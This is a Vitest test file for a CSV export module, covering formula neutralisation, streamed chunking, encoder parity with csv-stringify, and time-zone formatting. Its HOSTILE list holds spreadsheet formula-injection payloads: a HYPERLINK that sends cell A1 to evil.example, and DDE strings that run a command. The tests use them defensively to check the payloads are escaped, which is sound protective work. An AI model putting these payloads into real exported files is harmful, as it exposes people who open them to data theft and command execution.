import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { CHUNK_ROWS, csvDownload, csvText, inBatches, localTime, neutralise, stampedCsvName } from "./csv";

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
  "-",
];

async function cells(rows: unknown[][], stream: boolean): Promise<string[][]> {
  const source = stream
    ? inBatches(
        (async function* () {
          yield* rows;
        })(),
      )
    : rows;
  const text = await csvDownload(
    source,
    rows[0]!.map((_, i) => `c${i}`),
    "t.csv",
  ).text();
  return parse(text, { from_line: 2, relax_column_count: true }) as string[][];
}

describe("csvDownload", () => {
  for (const stream of [false, true]) {
    it(`neutralises cells a spreadsheet would run as formulas (${stream ? "streamed" : "whole"})`, async () => {
      const [row] = await cells([HOSTILE], stream);
      for (const [i, cell] of row!.entries()) expect(cell).toBe(`'${HOSTILE[i]}`);
    });

    it(`keeps amounts, negative ones included, and ordinary text (${stream ? "streamed" : "whole"})`, async () => {
      const [row] = await cells([["-12.50", -7, "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]], stream);
      expect(row).toEqual(["-12.50", "-7", "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]);
    });
  }
});

describe("csvDownload, streamed", () => {
  it("reads about one chunk ahead of a reader that stops taking the file, not the whole source", async () => {
    let produced = 0;
    async function* rows() {
      for (let i = 0; i < 200_000; i++) {
        produced++;
        yield [i, "x".repeat(60)];
      }
    }
    const reader = csvDownload(inBatches(rows()), ["n", "s"], "t.csv").body!.getReader();
    await reader.read();
    // Give a read-ahead every chance to run before looking.
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(produced).toBeLessThanOrEqual(3 * CHUNK_ROWS);
    await reader.cancel();
  });

  it("writes the header once and every row, in order, across chunks; the header alone for no rows", async () => {
    async function* rows(n: number) {
      for (let i = 0; i < n; i++) yield [i];
    }
    const text = await csvDownload(inBatches(rows(2 * CHUNK_ROWS + 7)), ["n"], "t.csv").text();
    expect(text.split("\n")).toEqual(["n", ...Array.from({ length: 2 * CHUNK_ROWS + 7 }, (_, i) => String(i)), ""]);
    expect(await csvDownload(inBatches(rows(0)), ["n"], "t.csv").text()).toBe("n\n");
  });

  it("skips empty batches: each chunk has rows, and none is lost", async () => {
    async function* batches() {
      yield [];
      yield [[1], [2]];
      yield [];
      yield [];
      yield [[3]];
      yield [];
    }
    const reader = csvDownload(batches(), ["n"], "t.csv").body!.getReader();
    const chunks: string[] = [];
    for (let r = await reader.read(); !r.done; r = await reader.read()) chunks.push(new TextDecoder().decode(r.value));
    expect(chunks).toEqual(["n\n1\n2\n", "3\n"]);
  });
});

describe("csvText", () => {
  it("writes what csv-stringify wrote (with neutralise), cell for cell, for every kind of value", () => {
    // The encoder replaced csv-stringify for speed (issue 36): the files must not change.
    const nasty = [
      "",
      " ",
      ",",
      '"',
      '""',
      "a,b",
      'say "hi"',
      "line\nbreak",
      "cr\rhere",
      "crlf\r\n",
      "tab\tin",
      "ünï 中文",
    ];
    const values: unknown[] = [
      ...nasty,
      ...HOSTILE,
      ...nasty.map((n) => `=${n}`),
      "-12.50",
      "-",
      "-x",
      0,
      -7,
      1.5,
      Number.NaN,
      12345678901234567890n,
      true,
      false,
      null,
      undefined,
      new Date("2026-11-28T07:00:00.123Z"),
      { a: 1, b: "x,y" },
      ["p", "q"],
    ];
    const records = [values, values.slice().reverse(), [], [""], [null]];
    expect(csvText(records)).toBe(stringify(records, { cast: { string: neutralise } }));
    // With a header, as csvDownload writes it: each record as long as the header.
    const header = ["a", "b,c", 'd"e'];
    const three = [values.slice(0, 3), values.slice(12, 15), values.slice(-3)];
    expect(csvText(three, header)).toBe(
      stringify(three, { header: true, columns: header, cast: { string: neutralise } }),
    );
  });
});

describe("localTime", () => {
  it("builds one formatter per zone, not one per cell (a million-row export spent ~250 µs a row on them)", () => {
    const Real = Intl.DateTimeFormat;
    let made = 0;
    Intl.DateTimeFormat = class extends Real {
      constructor(...args: ConstructorParameters<typeof Real>) {
        super(...args);
        made++;
      }
    } as typeof Real;
    try {
      const at = Date.parse("2026-03-08T06:59:59Z");
      const cells = Array.from({ length: 1000 }, (_, i) => localTime(new Date(at + i * 1000), "America/New_York"));
      expect(cells[0]).toBe("2026-03-08 01:59:59");
      expect(cells[1]).toBe("2026-03-08 03:00:00"); // the DST change, still right
      for (let i = 0; i < 1000; i++) localTime(new Date(at + i * 1000), "Asia/Shanghai");
      expect(made).toBeLessThanOrEqual(2);
    } finally {
      Intl.DateTimeFormat = Real;
    }
  });
});

describe("localTime, from a zone's offset per hour", () => {
  const intl = (zone: string) => {
    const f = new Intl.DateTimeFormat("en-CA", {
      timeZone: zone,
      ...{ year: "numeric", month: "2-digit", day: "2-digit", hour: "2-digit", minute: "2-digit", second: "2-digit" },
      hourCycle: "h23",
    });
    return (ms: number) => {
      const p = Object.fromEntries(f.formatToParts(new Date(ms)).map((x) => [x.type, x.value]));
      return `${p.year}-${p.month}-${p.day} ${p.hour}:${p.minute}:${p.second}`;
    };
  };
  // Each DST change of 2026 (New York at 2:00, Lord Howe by half an hour), second by second either side.
  const changes: [string, string][] = [
    ["America/New_York", "2026-03-08T07:00:00Z"],
    ["America/New_York", "2026-11-01T06:00:00Z"],
    ["Australia/Lord_Howe", "2026-04-04T15:00:00Z"],
    ["Australia/Lord_Howe", "2026-10-03T15:30:00Z"],
    ["Asia/Kathmandu", "2026-06-01T00:00:00Z"],
  ];
  for (const [zone, at] of changes)
    it(`agrees with Intl every second around ${at} in ${zone}`, () => {
      const want = intl(zone);
      const t = Date.parse(at);
      for (let ms = t - 7_200_000; ms < t + 7_200_000; ms += 1000) expect(localTime(new Date(ms), zone)).toBe(want(ms));
    });
});

describe("stampedCsvName", () => {
  it("names the file by the exporting person's clock, not UTC", () => {
    const at = new Date("2026-11-26T21:45:31Z");
    expect(stampedCsvName("transactions", "Asia/Shanghai", at)).toBe("transactions-2026-11-27-05-45-31.csv");
    expect(stampedCsvName("audit", "UTC", at)).toBe("audit-2026-11-26-21-45-31.csv");
  });
});
